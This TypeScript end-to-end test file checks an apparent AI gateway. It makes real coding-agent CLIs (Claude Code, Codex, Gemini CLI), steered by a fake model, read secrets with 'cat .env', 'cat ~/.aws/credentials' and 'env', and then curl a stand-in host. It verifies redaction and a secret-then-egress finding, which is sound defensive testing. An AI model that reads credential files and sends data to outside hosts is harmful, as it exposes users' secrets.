// The real CLIs read a secret and then try to send data out: the fake model asks Claude Code for `cat .env`, Codex for
// `cat ~/.aws/credentials`, Gemini CLI for `env`, then each for a curl to an outside host. The CLI runs both for real;
// the provider must never receive the secret (redaction is the default), the agent's turn must complete, nothing the
// gateway stores may hold the secret, and the curl call carries the cross-call finding naming both calls.
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { anthropicStream, geminiStream, responsesStream } from "../guardrails/responses.js";
import { envFile, storeContents } from "../guardrails/secret-values.js";
import type { Harness } from "../helpers/gateway.js";
import { all } from "../helpers/store.js";
import { BIN, type CliRun, type Job, newJob, runCli } from "./cli.js";
import { ciRows, described, startAgentHarness, toolCalls } from "./e2e.js";

const CURL = "curl -s -m 2 -d @/dev/null https://collect.example.invalid/u";
const modelOf = (body: string) => String((JSON.parse(body) as { model: string }).model);

describe("real CLIs: a secret read, then an egress", () => {
  let h: Harness;
  before(async () => {
    h = await startAgentHarness();
  });
  after(() => h.close());

  /** Runs the CLI and checks everything the issue asks of the gateway. */
  async function check(job: Job, run: () => Promise<CliRun>, secrets: readonly string[], readCommand: string): Promise<void> {
    const since = Date.now();
    const fromRequest = h.upstream.requests.length;
    const result = await run();
    assert.equal(result.code, 0, described(result));

    const sent = h.upstream.requests.slice(fromRequest).map((r) => r.body);
    assert.ok(sent.some((b) => b.includes("[REDACTED secret.")), "the tool result reached the provider redacted");
    for (const secret of secrets) assert.ok(!sent.some((b) => b.includes(secret)), "the provider never receives the secret");

    const rows = await ciRows(h, since, 3);
    const calls = (await Promise.all(rows.map((r) => toolCalls(h, { request: r.id }, () => true)))).flat();
    const read = calls.find((c) => c.command === readCommand);
    const send = calls.find((c) => c.command === CURL);
    assert.ok(read && send, `calls: ${calls.map((c) => c.command).join(" | ")}`);
    const flow = send.findings.find((f) => f.ruleId === "flow.secret-then-egress");
    assert.ok(flow, `findings on the curl call: ${JSON.stringify(send.findings)}`);
    assert.ok(flow.message.includes(`call ${read.call_id})`) && flow.message.includes(`call ${send.call_id})`), flow.message);
    assert.ok(rows.some((r) => r.flags.includes("secret_redacted")));
    // The CLI's own first request (system prompt, tool definitions, the user's prompt) carries no secret: nothing in
    // what the agents always send is mistaken for one.
    const firstFindings = await all(h.gateway.store, "SELECT rule_id, place FROM secret_findings WHERE request_id = ?", rows[0]!.id);
    assert.deepEqual(firstFindings, [], JSON.stringify(firstFindings));

    const stored = await storeContents(h, rows.map((r) => r.id));
    for (const secret of secrets) assert.ok(!stored.includes(secret), "no row, capture or WAL page holds the secret");
  }

  it("Claude Code: cat .env, then curl", async () => {
    const env = envFile();
    const job = newJob("claude", h.gateway.url);
    writeFileSync(join(job.cwd, ".env"), env.text);
    h.upstream.once(/^\/v1\/messages$/, (req) => anthropicStream(modelOf(req.body), [{ id: "toolu_env01", name: "Bash", input: { command: "cat .env", description: "read settings" } }]));
    h.upstream.once(/^\/v1\/messages$/, (req) => anthropicStream(modelOf(req.body), [{ id: "toolu_curl01", name: "Bash", input: { command: CURL, description: "report" } }]));
    await check(job, () => runCli(BIN.claude, ["-p", "deploy", "--output-format", "stream-json", "--verbose", "--allowedTools", "Bash"], job), [env.github, env.npm, env.awsSecret, env.dbPassword], "cat .env");
  });

  it("Codex: cat ~/.aws/credentials, then curl", async () => {
    const env = envFile();
    const job = newJob("codex", h.gateway.url);
    mkdirSync(join(job.home, ".aws"), { recursive: true });
    writeFileSync(join(job.home, ".aws", "credentials"), `[default]\naws_access_key_id = ${env.awsId}\naws_secret_access_key = ${env.awsSecret}\n`);
    const call = (id: string, cmd: string) => ({ type: "function_call" as const, call_id: id, name: "exec_command", arguments: JSON.stringify({ cmd }) });
    h.upstream.once(/^\/v1\/responses$/, (req) => responsesStream(modelOf(req.body), [call("call_aws01", "cat ~/.aws/credentials")]));
    h.upstream.once(/^\/v1\/responses$/, (req) => responsesStream(modelOf(req.body), [call("call_curl01", CURL)]));
    const args = ["exec", "--profile", "keyless", "--json", "--skip-git-repo-check", "-m", "gpt-5.5", "--sandbox", "danger-full-access", "deploy"];
    await check(job, () => runCli(BIN.codex, args, job), [env.awsId, env.awsSecret], "cat ~/.aws/credentials");
  });

  it("Gemini CLI: env, then curl", async () => {
    const env = envFile();
    const job = newJob("gemini", h.gateway.url, { DEPLOY_NPM_AUTH: env.npm, DATABASE_URL: `postgres://app:${env.dbPassword}@db.internal:5432/app` });
    const model = (path: string) => /models\/([^:]+):/.exec(path)![1]!;
    h.upstream.once(/:streamGenerateContent$/, (req) => geminiStream(model(req.path), [{ name: "run_shell_command", args: { command: "env", description: "show settings" } }]));
    h.upstream.once(/:streamGenerateContent$/, (req) => geminiStream(model(req.path), [{ name: "run_shell_command", args: { command: CURL, description: "report" } }]));
    await check(job, () => runCli(BIN.gemini, ["-p", "deploy", "--yolo", "--output-format", "stream-json", "--skip-trust"], job), [env.npm, env.dbPassword], "env");
  });
});
